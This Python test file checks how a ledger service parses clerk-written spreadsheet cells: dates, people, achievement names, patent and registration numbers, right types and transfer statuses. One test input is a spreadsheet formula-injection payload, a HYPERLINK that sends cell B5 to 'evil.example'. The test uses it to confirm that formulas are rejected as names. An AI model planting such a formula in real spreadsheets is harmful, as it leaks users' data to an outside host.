"""Dates, people, numbers, types and choices as clerks write them."""

from __future__ import annotations

from datetime import date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.ledger.reading.choices import read_frequency, read_method, read_stage, read_status
from services.ledger.reading.dates import read_date
from services.ledger.reading.kinds import decide_kind, read_words
from services.ledger.reading.names import read_name
from services.ledger.reading.numbers import read_number
from services.ledger.reading.persons import read_team
from services.ledger.reading.text import identity_key, tidy_name
from shared.documents.workbook import CellValue
from tests.services.ledger.reading.samples import FOUR_STATES, THREE_STATES


@pytest.mark.parametrize(
    ("cell", "iso", "code"),
    [
        (date(2023, 5, 6), "2023-05-06", None),
        (datetime(2023, 5, 6, 12, 30), "2023-05-06", None),  # noqa: DTZ001 (a cell has no zone)
        ("2023.5.6", "2023-05-06", None),
        ("2023/5/6", "2023-05-06", None),
        ("2023-05-06 00:00:00", "2023-05-06", None),
        ("2023 年 5 月 6 日", "2023-05-06", None),
        ("２０１８．１２．１１", "2018-12-11", None),
        ("20230506", "2023-05-06", None),
        (20230506.0, "2023-05-06", None),
        (44761.0, "2022-07-19", "date_excel_serial"),
        ("2023.05", "2023-05", "date_month_only"),
        ("2018年4月", "2018-04", "date_month_only"),
        (2023.05, "2023-05", "date_month_only"),
        (2023.12, "2023-12", "date_month_only"),
        (2023.1, None, "date_ambiguous"),
        ("24.12.17", None, "date_ambiguous"),
        ("2025", None, "date_incomplete"),
        (2025.0, None, "date_incomplete"),
        ("2023-02-30", None, "date_impossible"),
        ("2023.13", None, "date_impossible"),
        ("/", None, "date_missing"),
        ("", None, "date_missing"),
        ("去年", None, "date_unreadable"),
    ],
)
def test_a_date_keeps_the_precision_that_was_written(cell: CellValue, iso: str | None, code: str | None) -> None:
    read = read_date(cell)
    assert (read.iso, read.code) == (iso, code)


@given(st.dates(min_value=date(1950, 1, 1), max_value=date(2099, 12, 31)))
def test_every_way_of_writing_a_date_is_the_same_day(day: date) -> None:
    ways = (f"{day.year}.{day.month}.{day.day}", f"{day:%Y%m%d}", f"{day.year}年{day.month}月{day.day}日", f"{day}")
    assert {read_date(way).iso for way in ways} == {day.isoformat()}


@pytest.mark.parametrize(
    ("text", "people"),
    [
        ("张三、李四，王五", ["张三", "李四", "王五"]),
        ("崔强\n佟长青\n陈建国", ["崔强", "佟长青", "陈建国"]),
        ("徐　航、李铁成、孟和·巴特、朱 杰", ["徐航", "李铁成", "孟和·巴特", "朱杰"]),
        ("秦悦 许致远 汪树人", ["秦悦", "许致远", "汪树人"]),
        ("罗春华;富少华、", ["罗春华", "富少华"]),
        ("孙 𬍛,易玉兰；", ["孙𬍛", "易玉兰"]),
        ("John Smith、张三", ["John Smith", "张三"]),
    ],
)
def test_people_are_told_apart(text: str, people: list[str]) -> None:
    team = read_team(text)
    assert (list(team.people), team.code, team.warnings) == (people, None, ())


@pytest.mark.parametrize(
    ("text", "code"),
    [("同上", "team_ditto"), ("〃", "team_ditto"), ("/", "team_missing"), ("", "team_missing"),
     ("王 芳 李 明 赵国栋", "team_ambiguous_blanks")],
)  # fmt: skip
def test_people_in_doubt_ask(text: str, code: str) -> None:
    assert read_team(text).code == code


@pytest.mark.parametrize("text", ["张三、李四等", "张三、李四等5人", "张三，李四 等三人"])
def test_et_al_is_imported_with_a_warning(text: str) -> None:
    team = read_team(text)
    assert (team.people, team.warnings) == (("张三", "李四"), ("team_list_incomplete",))


def test_a_role_in_brackets_is_removed() -> None:
    team = read_team("沈瑞丰（负责人）、龚如玉")
    assert (team.people, team.warnings) == (("沈瑞丰", "龚如玉"), ("team_note_removed",))


@pytest.mark.parametrize(
    ("raw", "name"),
    [
        ("一种大豆\n单倍体高效诱导方法", "一种大豆单倍体高效诱导方法"),
        ("　一种防扭伤　土壤取样钻 ", "一种防扭伤土壤取样钻"),
        ("林下参生长环境远程监控软件Ｖ１．０", "林下参生长环境远程监控软件V1.0"),
        ("天麻有性繁殖\u200b播种拌种技术", "天麻有性繁殖播种拌种技术"),
        ("❄️冬季大棚温控提醒小程序V1.0", "❄️冬季大棚温控提醒小程序V1.0"),
        ("重楼皂苷Ⅰ脂质体（晚期肝癌）Ⅰ期", "重楼皂苷Ⅰ脂质体（晚期肝癌）Ⅰ期"),
        ("A deep\nlearning method", "A deep learning method"),
        ("-18℃速冻松茸菌褶护色工艺", "-18℃速冻松茸菌褶护色工艺"),
        ("@知农植保问答小程序V1.0", "@知农植保问答小程序V1.0"),
        ("'@知农植保问答小程序V1.0", "@知农植保问答小程序V1.0"),
    ],
)
def test_a_name_becomes_one_line_and_keeps_its_characters(raw: str, name: str) -> None:
    read = read_name(raw)
    assert (read.value, read.code) == (name, None)


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?q="&B5,"内涝预测平台V1.0")', "=1+1", "@SUM(A1)"])
def test_a_formula_is_no_name(text: str) -> None:
    assert read_name(text).code == "name_formula_like"


def test_a_pasted_abstract_is_no_name() -> None:
    assert read_name("甲" * 200).code is None
    assert read_name("甲" * 201).code == "name_too_long"


@given(st.text(max_size=60))
def test_tidying_twice_changes_nothing(text: str) -> None:
    once = tidy_name(text)
    assert tidy_name(once) == once
    assert identity_key(identity_key(text)) == identity_key(text)


@given(
    st.text(alphabet="甲乙丙V1.0（）ＡＢａ０", min_size=1, max_size=20),
    st.integers(0, 20),
    st.sampled_from(" \u3000\n\u200b\xa0"),
)
def test_blanks_and_width_never_make_a_new_name(text: str, place: int, blank: str) -> None:
    assert identity_key(text[:place] + blank + text[place:]) == identity_key(text)


@pytest.mark.parametrize(
    ("cell", "concept", "canonical"),
    [
        ("ZL 2022 1 7936306.7", "patent_right", "202217936306.7"),
        ("zl01181952.9", "patent_right", "01181952.9"),
        ("专利号：ZL201916166592.5", "patent_right", "201916166592.5"),
        ("ZL2018198726981", "patent_right", "201819872698.1"),
        ("ＺＬ２０２３１７９５３５２８．４", "patent_right", "202317953528.4"),
        ("ZL202317180085X", "patent_right", "202317180085.X"),
        (2023172143751.0, "patent_right", "202317214375.1"),
        (201818527486.3, "patent_right", "201818527486.3"),
        ("2019 SR 5961258", "software_copyright", "2019SR5961258"),
        ("登记号：2021SR6746628", "software_copyright", "2021SR6746628"),
        ("bs.189451231", "ic_layout", "BS.189451231"),
        ("ＣＮＡ２０２０９４９０１０２", "plant_variety", "CNA20209490102"),
        ("CNA20080376.X", "plant_variety", "CNA20080376.X"),
        ("2022lp09829", "clinical_permit", "2022LP09829"),
        ("JM-2022-045", "formula", "JM-2022-045"),
        ("—", "formula", None),
    ],
)
def test_a_number_has_one_form(cell: CellValue, concept: str, canonical: str | None) -> None:
    number = read_number(cell, concept)
    assert (number.canonical, number.code) == (canonical, None)


@pytest.mark.parametrize(
    ("cell", "concept", "code"),
    [
        ("ZL202439758455.0", "patent_right", "number_check_digit"),
        ("201216868815", "patent_right", "number_incomplete"),
        (201216868815.0, "patent_right", "number_incomplete"),
        ("ZL2022164", "patent_right", "number_incomplete"),
        ("ZL2023XXXXXXXX", "patent_right", "number_placeholder"),
        ("办理中", "patent_right", "number_placeholder"),
        ("CN299838584U", "patent_right", "number_is_publication_number"),
        ("滇审玉米2023091号", "plant_variety", "number_not_a_right"),
        ("滇药制备字Z20239001000", "drug_marketing_approval", "number_not_a_right"),
    ],
)
def test_a_wrong_number_says_what_is_wrong(cell: CellValue, concept: str, code: str) -> None:
    assert read_number(cell, concept).code == code


def test_a_certificate_number_is_no_registration_number() -> None:
    number = read_number("软著登字第19271086号", "software_copyright")
    assert number.warning == "software_certificate_number_not_registration_number"
    assert (number.canonical, number.certificate) == (None, "软著登字第19271086号")


def test_several_rights_of_one_achievement() -> None:
    number = read_number("ZL202217936306.7、ZL202317953528.4", "patent_right")
    assert (number.canonical, number.more) == ("202217936306.7", ("202317953528.4",))


@pytest.mark.parametrize(
    ("text", "label", "kind"),
    [
        ("专利权（发明）", "专利权", "发明"),
        ("专利权-实用新型", "专利权", "实用新型"),
        ("外观设计专利 ", "专利权", "外观设计"),
        ("专利权", "专利权", None),
        ("计算机软著", "计算机软件著作权", None),
        ("新品种权", "植物新品种权", None),
        ("药品注册批件", "药品上市许可", None),
        ("发明专利申请权", "专利申请权", None),
        ("非专利技术（技术秘密）", "非专利技术", None),
        ("Know-How", "非专利技术", None),
    ],
)
def test_types_have_many_names(text: str, label: str, kind: str | None) -> None:
    decided = decide_kind(FOUR_STATES, read_words(FOUR_STATES, text, None), number_kind=None, number_granted=False)
    assert (decided.label, decided.patent_kind, decided.code) == (label, kind, None)


@pytest.mark.parametrize("text", ["医疗器械注册证", "论文", "地方标准", "数据库", "发明/软著"])
def test_what_is_no_type_asks(text: str) -> None:
    decided = decide_kind(FOUR_STATES, read_words(FOUR_STATES, text, None), number_kind=None, number_granted=False)
    assert decided.code == "type_unknown"


def test_a_pending_patent_is_an_application_right() -> None:
    words = read_words(FOUR_STATES, "发明专利（实审中）", None)
    decided = decide_kind(FOUR_STATES, words, number_kind="发明", number_granted=False)
    assert decided.label == "专利申请权"
    assert decided.warning == "type_pending_patent_read_as_application_right"


@pytest.mark.parametrize(
    ("type_text", "grant_text", "zl", "label", "code"),
    [
        ("发明专利", "授权", True, "已授权/专利权", None),
        ("已授权：软件著作权", None, False, "已授权/计算机软件著作权", None),
        ("未授权（配方）", None, False, "未授权/配方", None),
        ("专有技术", None, False, "未授权/专有技术", None),
        ("发明", None, True, "已授权/专利权", None),
        ("发明", None, False, "已授权/专利权", "type_grant_unknown"),
        ("", "已授权", True, "已授权/专利权", "type_category_missing"),
        ("发明专利", "未授权", True, "已授权/专利权", "type_grant_conflict"),
        ("专利申请权", "否", True, "未授权/专利申请权", "type_grant_conflict"),
        ("配方", "是", False, "未授权/配方", "type_grant_conflict"),
    ],
)
def test_grouped_types_say_whether_granted(
    type_text: str, grant_text: str | None, zl: bool, label: str, code: str | None
) -> None:
    words = read_words(THREE_STATES, type_text, grant_text)
    decided = decide_kind(THREE_STATES, words, number_kind="发明" if zl else None, number_granted=zl)
    assert (decided.code, (decided.proposals or (decided.label,))[0] if code else decided.label) == (code, label)


@pytest.mark.requirement("R070")
def test_three_or_four_statuses_come_from_the_region() -> None:
    assert read_status(FOUR_STATES, "转化实施中", asks=False).value == "转化中"
    assert read_status(THREE_STATES, "正在转化", asks=False).code == "status_not_in_pack"
    assert read_status(THREE_STATES, "洽谈中", asks=False).value == "意向转化"
    assert read_status(FOUR_STATES, "是", asks=True).value == "已转化"
    assert read_status(FOUR_STATES, "是", asks=False).code == "status_unknown"
    assert read_status(FOUR_STATES, "部分转化", asks=False).code == "status_unknown"


@pytest.mark.requirement("R072")
def test_four_or_eight_methods_come_from_the_region() -> None:
    assert read_method(FOUR_STATES, "合作开发实施").value == "合作实施"
    mapped = read_method(THREE_STATES, "合作开发实施")
    assert (mapped.value, mapped.warning) == ("其他", "method_mapped_to_other")
    assert read_method(FOUR_STATES, "许可（先使用后付费）").value == "许可"
    assert read_method(FOUR_STATES, "许可/作价投资").code == "method_multiple"
    assert read_method(FOUR_STATES, "挂牌交易").code == "method_unknown"


def test_no_stage_is_research_and_half_words_ask() -> None:
    assert read_stage(FOUR_STATES, "研究 阶段").value == "研究阶段"
    empty = read_stage(FOUR_STATES, "")
    assert (empty.value, empty.warning) == ("研究阶段", "stage_empty_default_research")
    assert read_stage(FOUR_STATES, "中试").code == "stage_unknown"


def test_a_frequency_is_a_number_of_times() -> None:
    assert [read_frequency(text) for text in ("3次", "三次", "两次", "十二", "2", "/", "")] == [
        (3, True), (3, True), (2, True), (12, True), (2, True), (None, True), (None, True),
    ]  # fmt: skip
    assert read_frequency("多次") == (None, False)


@given(st.one_of(st.text(max_size=40), st.floats(), st.integers(), st.booleans(), st.dates()))
def test_no_cell_breaks_the_reading(cell: CellValue) -> None:
    read_date(cell)
    for concept in (None, "patent_right", "software_copyright", "formula"):
        read_number(cell, concept)
    if isinstance(cell, str):
        read_team(cell)
        read_name(cell)
        words = read_words(THREE_STATES, cell, cell)
        decide_kind(THREE_STATES, words, number_kind=None, number_granted=False)
